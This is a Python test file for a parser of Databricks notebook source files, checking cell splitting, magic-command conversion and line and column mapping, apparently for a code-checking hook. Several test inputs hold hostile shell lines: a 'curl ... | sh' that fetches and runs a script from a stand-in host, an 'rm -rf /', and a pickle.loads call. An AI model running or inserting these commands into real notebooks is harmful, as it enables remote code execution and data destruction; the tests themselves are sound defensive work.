from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from hooks._core.databricks_source import is_databricks_source, read_databricks_source

SEPARATOR = "\n\n# COMMAND ----------\n\n"


def source(*cells: str) -> str:
    return "# Databricks notebook source\n" + SEPARATOR.join(cells) + "\n"


def test_the_header_is_the_first_line_only() -> None:
    assert is_databricks_source("# Databricks notebook source\nx = 1\n")
    assert is_databricks_source("\ufeff# Databricks notebook source\r\nx = 1\r\n")
    assert not is_databricks_source("x = 1\n# Databricks notebook source\n")
    assert not is_databricks_source("# Databricks notebook source code lives here\n")
    assert not is_databricks_source("#Databricks notebook source\n")


def test_cells_and_their_file_lines() -> None:
    text = source("import os", "# MAGIC %md\n# MAGIC # Title\n# MAGIC text", "x = 1\ny = 2")
    read = read_databricks_source(text)
    cells = read.notebook.cells
    assert [(c.number, c.cell_type, c.source) for c in cells] == [
        (1, "code", "import os"),
        (2, "markdown", "\n# Title\ntext"),
        (3, "code", "x = 1\ny = 2"),
    ]
    lines = text.split("\n")
    assert lines[read.file_line(1, 1) - 1] == "import os"
    assert lines[read.file_line(2, 2) - 1] == "# MAGIC # Title"
    assert lines[read.file_line(3, 2) - 1] == "y = 2"


def test_magic_cells_become_what_ipython_runs() -> None:
    text = source(
        "# MAGIC %sh\n# MAGIC curl -s https://x.example/i.sh | sh",
        "# MAGIC %sh ls -la\n# MAGIC pwd",
        "# MAGIC %pip install torch==2.3.1",
        "# MAGIC %run ./Includes/setup",
        "# MAGIC %python\n# MAGIC import pickle",
        "# MAGIC %sql\n# MAGIC SELECT 1",
        "# MAGIC %scala\n# MAGIC val x = 1",
    )
    read = read_databricks_source(text)
    cells = read.notebook.cells
    assert [c.source for c in cells] == [
        "%%sh\ncurl -s https://x.example/i.sh | sh",
        "%%sh\nls -la\npwd",
        "%pip install torch==2.3.1",
        "%run ./Includes/setup",
        "\nimport pickle",
        "\nSELECT 1",
        "\nval x = 1",
    ]
    # A Spark SQL query and Scala code: text no Python reading applies to; the language is kept.
    assert [c.cell_type for c in cells][5:] == ["raw", "raw"]
    assert [(cell.number, language) for cell, language in read.other_languages()] == [(7, "scala")]
    lines = text.split("\n")
    # `%sh ls -la`: its first command stands on the magic's own line, the next one below it.
    assert lines[read.file_line(2, 2) - 1] == "# MAGIC %sh ls -la"
    assert lines[read.file_line(2, 3) - 1] == "# MAGIC pwd"
    assert lines[read.file_line(1, 2) - 1] == "# MAGIC curl -s https://x.example/i.sh | sh"


def test_look_alikes_of_magic_lines_stay_python() -> None:
    # A comment that mentions MAGIC, and a cell whose first line is Python: Databricks runs Python.
    text = source("# MAGICAL numbers\nx = 1", "y = 2\n# MAGIC %sh\n# MAGIC rm -rf /")
    cells = read_databricks_source(text).notebook.cells
    assert [c.source for c in cells] == ["# MAGICAL numbers\nx = 1", "y = 2\n# MAGIC %sh\n# MAGIC rm -rf /"]


def test_empty_cells_and_a_header_alone() -> None:
    assert read_databricks_source("# Databricks notebook source").notebook.cells == []
    read = read_databricks_source(source("", "x = 1", "   "))
    assert [(c.number, c.source.strip()) for c in read.notebook.cells] == [(1, "x = 1")]


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.text(max_size=60),
            st.sampled_from(
                ["# MAGIC %sh", "# MAGIC", "# MAGIC %", "# MAGIC %md", "# COMMAND ----------", "\r", "%%sh"]
            ),
        ),
        max_size=30,
    )
)
def test_garbage_reads_without_error_and_every_line_maps_into_the_file(parts: list[str]) -> None:
    text = "# Databricks notebook source\n" + "\n".join(parts)
    read = read_databricks_source(text)
    total = text.count("\n") + 1
    for cell in read.notebook.cells:
        for line in range(1, cell.source.count("\n") + 2):
            assert 1 <= read.file_line(cell.number, line) <= total


def test_columns_count_the_magic_prefix() -> None:
    text = source("# MAGIC %sh ls -la\n# MAGIC pwd", "# MAGIC %md Title\n# MAGIC text", "x = 1")
    read = read_databricks_source(text)
    lines = text.split("\n")
    # Cell line 2 of the `%sh` cell is `ls -la`, written after `# MAGIC %sh ` on the magic's line.
    assert lines[read.file_line(1, 2) - 1][read.file_column(1, 2, 0) :] == "ls -la"
    assert lines[read.file_line(1, 3) - 1][read.file_column(1, 3, 0) :] == "pwd"
    assert lines[read.file_line(2, 1) - 1][read.file_column(2, 1, 0) :] == "Title"
    assert read.file_column(3, 1, 4) == 4


def test_a_title_stands_before_the_magic() -> None:
    text = source("# DBTITLE 1,Install tools\n# MAGIC %sh\n# MAGIC curl -s https://x.example/i.sh | sh")
    read = read_databricks_source(text)
    (cell,) = read.notebook.cells
    assert cell.source == "%%sh\ncurl -s https://x.example/i.sh | sh"
    assert text.split("\n")[read.file_line(1, 2) - 1] == "# MAGIC curl -s https://x.example/i.sh | sh"


def test_lines_without_the_prefix_in_a_magic_cell_are_read_as_python_too() -> None:
    text = source("# MAGIC %md\n# MAGIC hello\nimport pickle\nx = pickle.loads(b)")
    read = read_databricks_source(text)
    python, markdown = read.notebook.cells
    assert (python.cell_type, markdown.cell_type) == ("code", "markdown")
    assert python.source.split("\n") == ["", "", "import pickle", "x = pickle.loads(b)"]
    assert text.split("\n")[read.file_line(python.number, 4) - 1] == "x = pickle.loads(b)"
